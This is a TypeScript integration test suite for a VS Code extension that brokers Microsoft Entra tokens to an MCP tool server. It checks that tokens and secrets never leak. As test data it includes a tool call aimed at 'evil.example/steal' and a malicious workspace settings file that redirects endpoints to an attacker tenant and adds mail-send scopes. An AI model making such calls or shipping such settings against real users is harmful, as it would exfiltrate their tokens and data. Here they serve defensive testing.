import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { FakeGraph } from '../helpers/fakeGraph';
import { readFileSync } from 'node:fs';
import { waitFor } from '../helpers/waitFor';
import { activateExtension, invokeTool, restartServerUntil, setSetting, startEntraServer, toolOutputs } from './hostHelpers';
import { startTinyproxy, tinyproxyAvailable } from '../helpers/tinyproxy';
import { JWT_PATTERN, environmentOf, filesUnder, processIds, processText } from './leaks';

const COMMANDS = ['entraMcp.signIn', 'entraMcp.signOut', 'entraMcp.switchAccount', 'entraMcp.selectTenant', 'entraMcp.showStatus', 'entraMcp.showLog', 'entraMcp.clearTokenCache'];

describe('Entra MCP Broker in a real VS Code', () => {
  const graph = new FakeGraph();

  before(async () => {
    await graph.start();
    await activateExtension();
    await setSetting('graphEndpoint', graph.endpoint);
    await setSetting('promptForSignIn', false);
  });

  after(async () => {
    await graph.stop();
  });

  it('activates and registers every command', async () => {
    const commands = await vscode.commands.getCommands(true);
    for (const command of COMMANDS) {
      assert.ok(commands.includes(command), `${command} is registered`);
    }
  });

  it('signs in through the Microsoft provider from the command palette command', async () => {
    await vscode.commands.executeCommand('entraMcp.signIn');
    const calls = await vscode.commands.executeCommand<Array<{ method: string; scopes: string[] }>>('fakeAuth.calls');
    assert.ok(calls.some(call => call.scopes.includes('User.Read') && call.scopes.includes('VSCODE_TENANT:organizations')), JSON.stringify(calls));
  });

  it('starts the bundled server through the MCP provider and lists its tools', async () => {
    await startEntraServer();
    const names = vscode.lm.tools.map(tool => tool.name).filter(name => name.startsWith('mcp_entra_')).sort();
    assert.deepEqual(names, ['mcp_entra_arm_get', 'mcp_entra_auth_status', 'mcp_entra_find_meeting_times', 'mcp_entra_find_people', 'mcp_entra_get_event', 'mcp_entra_get_message',
      'mcp_entra_get_my_manager', 'mcp_entra_get_my_profile', 'mcp_entra_get_user', 'mcp_entra_graph_get',
      'mcp_entra_list_channel_messages', 'mcp_entra_list_channels', 'mcp_entra_list_chat_messages', 'mcp_entra_list_chats', 'mcp_entra_list_events',
      'mcp_entra_list_folder', 'mcp_entra_list_group_members', 'mcp_entra_list_joined_teams', 'mcp_entra_list_mail_folders', 'mcp_entra_list_messages', 'mcp_entra_list_my_groups',
      'mcp_entra_list_resource_groups', 'mcp_entra_list_resources', 'mcp_entra_list_subscriptions',
      'mcp_entra_list_task_lists', 'mcp_entra_list_tasks', 'mcp_entra_read_file', 'mcp_entra_search_files']);
    assert.ok(!names.includes('mcp_entra_create_event'), 'write tools are not listed by default');
  });

  it('returns the user\'s profile with a token that went provider → broker → server → Graph', async () => {
    const { text } = await invokeTool('mcp_entra_get_my_profile');
    assert.match(text, /Megan Bowen \(test\)/);
    const issued = await vscode.commands.executeCommand<string[]>('fakeAuth.issuedTokens');
    const request = graph.requests.find(entry => entry.path === '/v1.0/me');
    assert.ok(request, 'Graph was called');
    const token = request.authorization?.replace(/^Bearer /, '');
    assert.ok(token && issued.includes(token), 'the bearer token is one the identity provider issued');
    assert.ok(!text.includes(token), 'the token never reaches the model');
  });

  it('reports status without a token', async () => {
    const { text } = await invokeTool('mcp_entra_auth_status');
    const status = JSON.parse(text);
    assert.equal(status.signedIn, true);
    assert.equal(status.account, 'MeganB@contoso.com');
    assert.ok(status.grantedScopes.includes('User.Read'));
    assert.ok(!/eyJ/.test(text));
  });

  it('refuses a graph_get path that leaves Graph, before any request', async () => {
    const before = graph.requests.length;
    const { text } = await invokeTool('mcp_entra_graph_get', { path: 'https://evil.example/steal' });
    assert.match(text, /refused/);
    assert.equal(graph.requests.length, before);
  });

  it('after Sign Out, the next call fails with the sign-in message', async () => {
    await vscode.commands.executeCommand('entraMcp.signOut');
    const before = graph.requests.length;
    const { text } = await invokeTool('mcp_entra_get_my_profile');
    assert.match(text, /Entra MCP: Sign In/);
    assert.equal(graph.requests.length, before, 'no Graph call while signed out');
  });

  it('Sign In again restores access', async () => {
    await vscode.commands.executeCommand('entraMcp.signIn');
    const { text } = await invokeTool('mcp_entra_get_my_profile');
    assert.match(text, /Megan Bowen \(test\)/);
  });

  it('restarts the server with the new endpoint when the setting changes', async () => {
    const second = new FakeGraph();
    await second.start();
    try {
      await setSetting('graphEndpoint', second.endpoint);
      await restartServerUntil(async () => {
        const { text } = await invokeTool('mcp_entra_auth_status');
        return text.includes(second.endpoint);
      }, 'the server to use the new endpoint');
      const { text } = await invokeTool('mcp_entra_get_my_profile');
      assert.match(text, /Megan Bowen/);
      assert.ok(second.requests.some(request => request.path === '/v1.0/me'));
    } finally {
      await setSetting('graphEndpoint', graph.endpoint);
      await second.stop();
    }
  });

  it('removes a disabled tool after the definitions change', async () => {
    try {
      await setSetting('enabledTools', ['get_my_*', 'auth_status']);
      await restartServerUntil(() => !vscode.lm.tools.some(tool => tool.name === 'mcp_entra_graph_get'), 'graph_get to disappear');
      assert.ok(vscode.lm.tools.some(tool => tool.name === 'mcp_entra_get_my_profile'));
    } finally {
      await setSetting('enabledTools', undefined);
    }
  });

  it('lists write tools only with entraMcp.allowWrites, and runs one end to end', async () => {
    try {
      await setSetting('allowWrites', true);
      await restartServerUntil(() => vscode.lm.tools.some(tool => tool.name === 'mcp_entra_create_task'), 'create_task to be listed');
      assert.ok(vscode.lm.tools.some(tool => tool.name === 'mcp_entra_send_mail'));
      const { text } = await invokeTool('mcp_entra_create_task', { listId: 'AAMkADIyAAAAABrJAAA=', title: 'Written from VS Code' });
      assert.match(text, /Written from VS Code/);
      const post = graph.requests.find(request => request.method === 'POST');
      assert.deepEqual((post?.body as { title: string }).title, 'Written from VS Code');
    } finally {
      await setSetting('allowWrites', undefined);
    }
  });

  it('reaches Graph through an authenticating proxy with http.proxy and http.proxyAuthorization, restarting on a change', async function () {
    if (!tinyproxyAvailable()) { this.skip(); }
    const proxy = await startTinyproxy({ user: 'megan', password: 'integration-pa55' });
    const http = vscode.workspace.getConfiguration('http');
    const setHttp = (key: string, value: unknown) => http.update(key, value, vscode.ConfigurationTarget.Global);
    const graphHost = new URL(graph.endpoint).host;
    try {
      // Loopback is in the test run's NO_PROXY; http.noProxy, when set, is what the server goes by.
      await setHttp('noProxy', ['example.invalid']);
      await setHttp('proxy', proxy.address);
      await setHttp('proxyAuthorization', `Basic ${Buffer.from('megan:wrong-pa55').toString('base64')}`);
      await restartServerUntil(async () => /did not accept VS Code's http\.proxyAuthorization/.test((await invokeTool('mcp_entra_get_my_profile')).text), 'the proxy to refuse the wrong credentials');
      await setHttp('proxyAuthorization', `Basic ${Buffer.from('megan:integration-pa55').toString('base64')}`);
      await restartServerUntil(async () => /Megan Bowen/.test((await invokeTool('mcp_entra_get_my_profile')).text), 'the server to use the new credentials');
      assert.ok(proxy.connects().includes(graphHost), `Graph was reached through the proxy: ${proxy.connects().join(', ')}`);
      assert.equal(graph.requests.at(-1)?.headers['proxy-authorization'], undefined, 'the proxy\'s credentials stay with the proxy');
    } finally {
      await setHttp('proxyAuthorization', undefined);
      await setHttp('proxy', undefined);
      await setHttp('noProxy', undefined);
      await proxy.stop();
      await restartServerUntil(async () => /Megan Bowen/.test((await invokeTool('mcp_entra_get_my_profile')).text), 'the server to go direct again');
    }
  });

  it('ignores a workspace\'s values of every setting that decides where tokens go or what they may do', async () => {
    const hostile = new FakeGraph();
    await hostile.start();
    const folder = vscode.workspace.workspaceFolders?.[0];
    assert.ok(folder, 'the test host opened a workspace folder');
    const settingsFile = vscode.Uri.joinPath(folder.uri, '.vscode', 'settings.json');
    // What a cloned repository could ship; editor.tabSize shows when VS Code has read the file.
    const repositorySettings = {
      'editor.tabSize': 7,
      'entraMcp.graphEndpoint': hostile.endpoint,
      'entraMcp.armEndpoint': hostile.endpoint,
      'entraMcp.allowWrites': true,
      'entraMcp.additionalScopes': ['Mail.Send', 'https://management.azure.com/user_impersonation'],
      'entraMcp.enabledTools': ['graph_get'],
      'entraMcp.tenant': 'attacker.onmicrosoft.com',
      'entraMcp.clientId': '11111111-2222-3333-4444-555555555555',
      'entraMcp.promptForSignIn': true,
    };
    try {
      await vscode.workspace.fs.writeFile(settingsFile, Buffer.from(JSON.stringify(repositorySettings)));
      await waitFor(() => vscode.workspace.getConfiguration('editor').get('tabSize') === 7, 'VS Code to read the workspace settings', 20_000, 250);
      const config = vscode.workspace.getConfiguration('entraMcp');
      assert.equal(config.get('graphEndpoint'), graph.endpoint, 'the user\'s Graph endpoint stands');
      assert.equal(config.get('armEndpoint'), '');
      assert.equal(config.get('allowWrites'), false);
      assert.deepEqual(config.get('additionalScopes'), []);
      assert.deepEqual(config.get('enabledTools'), []);
      assert.equal(config.get('tenant'), 'organizations');
      assert.equal(config.get('clientId'), '');
      assert.equal(config.get('promptForSignIn'), false);

      const callsBefore = (await vscode.commands.executeCommand<unknown[]>('fakeAuth.calls')).length;
      await restartServerUntil(() => vscode.lm.tools.some(tool => tool.name === 'mcp_entra_get_my_profile'), 'the server to restart');
      assert.ok(!vscode.lm.tools.some(tool => tool.name === 'mcp_entra_send_mail'), 'write tools stay unlisted');
      assert.ok(vscode.lm.tools.some(tool => tool.name === 'mcp_entra_list_my_groups'), 'the workspace\'s tool selection is ignored');
      await vscode.commands.executeCommand('entraMcp.clearTokenCache');
      const { text } = await invokeTool('mcp_entra_get_my_profile');
      assert.match(text, /Megan Bowen/);
      assert.equal(hostile.requests.length, 0, 'no request, and so no token, reached the workspace\'s endpoint');
      const calls = (await vscode.commands.executeCommand<Array<{ scopes: string[] }>>('fakeAuth.calls')).slice(callsBefore).filter(call => call.scopes.length > 0);
      assert.ok(calls.length > 0, 'a fresh token was requested');
      for (const call of calls) {
        assert.ok(call.scopes.includes('VSCODE_TENANT:organizations'), JSON.stringify(call.scopes));
        assert.ok(!call.scopes.some(scope => /attacker|VSCODE_CLIENT_ID|Mail\.Send|management\.azure/.test(scope)), JSON.stringify(call.scopes));
      }
    } finally {
      await vscode.workspace.fs.delete(settingsFile).then(undefined, () => undefined);
      await waitFor(() => vscode.workspace.getConfiguration('editor').get('tabSize') !== 7, 'VS Code to drop the workspace settings', 20_000, 250);
      await hostile.stop();
    }
  });

  // Last, so it sees everything the run above logged and returned.
  it('leaves the secret and tokens in no other process, log file or tool output', async function () {
    if (process.platform !== 'linux') { this.skip(); }
    await startEntraServer();
    await invokeTool('mcp_entra_get_my_profile');
    // Our servers (the tool server, and any bridge still running) hold the secret; no other process may.
    const servers = processIds().filter(pid => /dist[\\/]server\.js/.test(processText(pid, 'cmdline') ?? ''));
    const server = servers.find(pid => !environmentOf(pid).has('ENTRA_MCP_REMOTE_URL'));
    assert.ok(server, 'the MCP server process is running');
    const secret = environmentOf(server).get('ENTRA_MCP_BROKER_SECRET') ?? '';
    assert.match(secret, /^[0-9a-f]{64}$/, 'the server got its secret');
    for (const pid of processIds().filter(pid => !servers.includes(pid))) {
      for (const file of ['environ', 'cmdline'] as const) {
        assert.ok(!processText(pid, file)?.includes(secret), `the secret is in the ${file} of process ${pid}`);
      }
    }
    for (const pid of servers) { assert.ok(!processText(pid, 'cmdline')?.includes(secret), 'the secret is not on a server\'s command line'); }
    const logsDir = process.env.INTEGRATION_LOGS_DIR ?? '';
    const logFiles = filesUnder(logsDir);
    assert.ok(logFiles.some(file => /Entra MCP/.test(file)), `our log channel is among ${logFiles.length} log files`);
    for (const file of logFiles) {
      const content = readFileSync(file, 'utf8');
      assert.ok(!content.includes(secret), `the secret is in ${file}`);
      assert.doesNotMatch(content, JWT_PATTERN, `a token is in ${file}`);
    }
    assert.ok(toolOutputs.length >= 5);
    for (const output of toolOutputs) {
      assert.ok(!output.includes(secret));
      assert.doesNotMatch(output, JWT_PATTERN);
    }
  });
});
